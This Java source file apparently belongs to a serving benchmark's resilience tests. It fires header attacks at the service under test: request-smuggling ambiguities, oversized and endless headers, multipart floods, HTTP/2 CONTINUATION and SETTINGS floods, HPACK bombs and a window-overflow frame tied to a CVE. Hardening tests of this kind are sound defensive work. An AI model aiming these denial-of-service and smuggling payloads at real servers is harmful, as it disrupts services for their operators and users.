package io.resforge.benchmarks.serving.attack;

import io.resforge.v1.InferenceServiceGrpc;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.function.IntFunction;
import java.util.function.Supplier;

/** What stands before a body: heads of HTTP/1.1, of HTTP/2 and of parts of a form, endless, compressed or wrong. */
public final class HeadAttacks {

    private static final String CLASSIFY =
            "/" + InferenceServiceGrpc.getClassifyMethod().getFullMethodName();
    private static final byte HEADERS = 1;
    private static final byte CONTINUATION = 9;
    private static final int END_OF_STREAM = 1;
    private static final int END_OF_HEADERS = 4;
    private static final int ATTACKERS = 24;
    private static final int BLOCK = 64 << 10;
    private static final int MEGABYTE = 1 << 20;
    private static final int SETTINGS_OF_A_CONNECTION = 990;
    private static final long NANOS = 6_000_000_000L;

    private HeadAttacks() {}

    /** In the order in which they are run. */
    public static List<Attack> all() {
        return List.of(
                new Attack("requests that a proxy may read in another way", HeadAttacks::ambiguous),
                new Attack("one header of 5 MB, HTTP", s -> endless(s, "GET / HTTP/1.1\r\nHost: a\r\nA: ", "b")),
                new Attack("a million headers, HTTP", s -> endless(s, "GET / HTTP/1.1\r\nHost: a\r\n", "A: b\r\n")),
                new Attack("a line of 5 MB, HTTP", s -> endless(s, "GET /", "a")),
                new Attack(
                        "an extension of a chunk of 5 MB",
                        s -> endless(s, post("Transfer-Encoding: chunked\r\n\r\n5;"), "a")),
                new Attack(
                        "a million trailers",
                        s -> endless(s, post("Transfer-Encoding: chunked\r\n\r\n1\r\na\r\n0\r\n"), "A: b\r\n")),
                new Attack("forms of a million parts", s -> forms(s, "--b\r\n" + disposition() + "\r\nx\r\n")),
                new Attack("forms whose parts have heads of megabytes", s -> forms(s, "A: b\r\n")),
                new Attack("forms of line ends", s -> forms(s, "\r\n")),
                new Attack("heads of 10 MB, gRPC", s -> blocks(s, HeadAttacks::largeHead)),
                new Attack("heads without end, gRPC", s -> blocks(s, HeadAttacks::endlessHead)),
                new Attack("HPACK bombs", s -> blocks(s, HeadAttacks::bomb)),
                new Attack("HPACK tables filled anew by each call", s -> calls(s, HeadAttacks::churn)),
                new Attack("calls with a timeout that is none", s -> calls(s, call("grpc-timeout", "x"))),
                new Attack("calls with a compression that is none", s -> calls(s, call("grpc-encoding", "x"))),
                new Attack("calls with a header that HTTP/2 forbids", s -> calls(s, call("connection", "close"))),
                new Attack("calls of unknown methods", s -> calls(s, n -> head(n, "/a.b/c"))),
                new Attack("calls that the service must break off", s -> calls(s, HeadAttacks::overflow)),
                new Attack("connections anew with 990 frames each", HeadAttacks::reconnecting));
    }

    private static String ambiguous(AttackedService service) throws IOException {
        String[] heads = {
            "Host: a\r\nHost: b\r\nContent-Length: 0\r\n\r\n",
            "Host: a\r\nTransfer-Encoding: identity\r\nContent-Length: 0\r\n\r\n",
            "Host: a\r\nTransfer-Encoding: chunked, gzip\r\n\r\n0\r\n\r\n",
            "Host: a\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
            "Host: a\r\nContent-Length: 0\r\nContent-Length: 1\r\n\r\n",
            "Host: a\r\nTransfer-Encoding: chunked\r\n\r\n0;a=\"\r\n\"\r\n\r\n",
            "Host: a\r\nTransfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n"
        };
        Object[] answers = new Object[heads.length];
        for (int i = 0; i < heads.length; i++) {
            try (Socket socket = service.say("POST /v1/feedback HTTP/1.1\r\n" + heads[i])) {
                answers[i] = new String(socket.getInputStream().readNBytes(12), StandardCharsets.US_ASCII);
            }
            if (!answers[i].equals("HTTP/1.1 400")) {
                throw new IllegalStateException("taken: " + heads[i] + " -> " + answers[i]);
            }
        }
        return Attackers.counted(answers);
    }

    /** Sends the same again and again behind a head, until it is cut off or has sent 5 MB; again for some seconds. */
    private static String endless(AttackedService service, String head, String part) throws Exception {
        byte[] block = part.repeat(BLOCK / part.length()).getBytes(StandardCharsets.US_ASCII);
        return again(() -> {
            try (Socket socket = service.say(head)) {
                for (int sent = 0; sent < 5 * MEGABYTE; sent += block.length) {
                    socket.getOutputStream().write(block);
                }
            }
        });
    }

    private static String forms(AttackedService service, String part) throws Exception {
        String begin = "--b\r\n" + disposition();
        String end = "\r\nx\r\n--b--\r\n";
        String form = begin + part.repeat(10 * MEGABYTE / part.length()) + end;
        byte[] body = form.getBytes(StandardCharsets.US_ASCII);
        return Attackers.together(
                ATTACKERS,
                () -> service.request("POST", "/v1/classify", body, "Content-Type", "multipart/form-data; boundary=b"));
    }

    private static String disposition() {
        return "Content-Disposition: form-data; name=\"a\"; filename=\"b\"\r\n";
    }

    private static String post(String rest) {
        return "POST /v1/classify HTTP/1.1\r\nHost: a\r\n" + rest;
    }

    /** One head a connection, again and again. */
    private static String blocks(AttackedService service, Supplier<byte[]> head) throws Exception {
        byte[] bytes = head.get();
        return again(() -> {
            try (Socket socket = service.connect(service.grpc())) {
                socket.getOutputStream().write(HeldCall.preface());
                socket.getOutputStream().write(bytes);
                socket.getInputStream().readAllBytes();
            }
        });
    }

    /** Calls over a connection until it is cut off, then over another one. */
    private static String calls(AttackedService service, IntFunction<byte[]> call) throws Exception {
        long end = System.nanoTime() + NANOS;
        return again(() -> {
            try (Socket socket = service.connect(service.grpc())) {
                socket.getOutputStream().write(HeldCall.preface());
                for (int stream = 1; System.nanoTime() < end; ) {
                    ByteArrayOutputStream some = new ByteArrayOutputStream();
                    for (int i = 0; i < 100; i++, stream += 2) {
                        some.writeBytes(call.apply(stream));
                    }
                    socket.getOutputStream().write(some.toByteArray());
                    while (socket.getInputStream().available() > 0) {
                        socket.getInputStream()
                                .skipNBytes(socket.getInputStream().available());
                    }
                }
            }
        });
    }

    private static String reconnecting(AttackedService service) throws Exception {
        ByteArrayOutputStream frames = new ByteArrayOutputStream();
        frames.writeBytes(HeldCall.preface());
        for (int i = 0; i < SETTINGS_OF_A_CONNECTION; i++) {
            frames.writeBytes(HeldCall.bytes(HeldCall.SETTINGS, 0, 0, new byte[0]));
        }
        return again(() -> {
            try (Socket socket = service.connect(service.grpc())) {
                socket.getOutputStream().write(frames.toByteArray());
            }
        });
    }

    /** Something that ends by itself or by a connection that breaks. */
    @FunctionalInterface
    private interface Deed {

        void once() throws IOException;
    }

    private static String again(Deed deed) throws Exception {
        long end = System.nanoTime() + NANOS;
        return Attackers.together(ATTACKERS, () -> {
            int taken = 0;
            int cut = 0;
            while (System.nanoTime() < end) {
                try {
                    deed.once();
                    taken++;
                } catch (IOException e) {
                    cut++;
                }
            }
            return taken > 0 && cut > 0 ? "both" : taken > 0 ? "taken" : "cut off";
        });
    }

    private static byte[] largeHead() {
        ByteArrayOutputStream frames = new ByteArrayOutputStream();
        frames.writeBytes(HeldCall.bytes(HEADERS, 0, 1, HeldCall.headers(CLASSIFY)));
        byte[] more = new byte[HeldCall.FRAME];
        for (int i = 0; i < 10 * MEGABYTE / more.length; i++) {
            frames.writeBytes(HeldCall.bytes(CONTINUATION, 0, 1, more));
        }
        return frames.toByteArray();
    }

    private static byte[] endlessHead() {
        return HeldCall.bytes(HEADERS, 0, 1, HeldCall.headers(CLASSIFY));
    }

    /** A header that the table keeps, named 12,000 times. */
    private static byte[] bomb() {
        ByteArrayOutputStream head = new ByteArrayOutputStream();
        head.writeBytes(HeldCall.headers(CLASSIFY));
        indexed(head, "a", "b".repeat(3_900));
        for (int i = 0; i < 12_000; i++) {
            head.write(0xbe);
        }
        return HeldCall.bytes(HEADERS, END_OF_HEADERS | END_OF_STREAM, 1, head.toByteArray());
    }

    private static byte[] churn(int stream) {
        ByteArrayOutputStream head = new ByteArrayOutputStream();
        head.writeBytes(HeldCall.headers("/a.b/c"));
        for (int i = 0; i < 120; i++) {
            indexed(head, "n" + i + "-" + stream, "v");
        }
        return HeldCall.bytes(HEADERS, END_OF_HEADERS | END_OF_STREAM, stream, head.toByteArray());
    }

    private static IntFunction<byte[]> call(String header, String value) {
        ByteArrayOutputStream head = new ByteArrayOutputStream();
        head.writeBytes(HeldCall.headers(CLASSIFY));
        HeldCall.literal(head, header, value);
        return stream -> HeldCall.bytes(HEADERS, END_OF_HEADERS | END_OF_STREAM, stream, head.toByteArray());
    }

    private static byte[] head(int stream, String path) {
        return HeldCall.bytes(HEADERS, END_OF_HEADERS | END_OF_STREAM, stream, HeldCall.headers(path));
    }

    /** A window that grows beyond what it may (CVE-2025-8671). */
    private static byte[] overflow(int stream) {
        ByteArrayOutputStream frames = new ByteArrayOutputStream();
        frames.writeBytes(HeldCall.call(CLASSIFY, stream));
        frames.writeBytes(
                HeldCall.bytes(HeldCall.WINDOW_UPDATE, 0, stream, new byte[] {0x7f, (byte) 0xff, (byte) 0xff, -1}));
        return frames.toByteArray();
    }

    /** A header that the table is to keep (RFC 7541, 6.2.1). */
    private static void indexed(ByteArrayOutputStream head, String name, String value) {
        head.write(0x40);
        for (String text : new String[] {name, value}) {
            int rest = text.length() - 0x7f;
            head.write(Math.min(text.length(), 0x7f));
            for (; rest >= 0x80; rest >>= 7) {
                head.write(rest & 0x7f | 0x80);
            }
            if (text.length() >= 0x7f) {
                head.write(rest);
            }
            head.writeBytes(text.getBytes(StandardCharsets.US_ASCII));
        }
    }
}
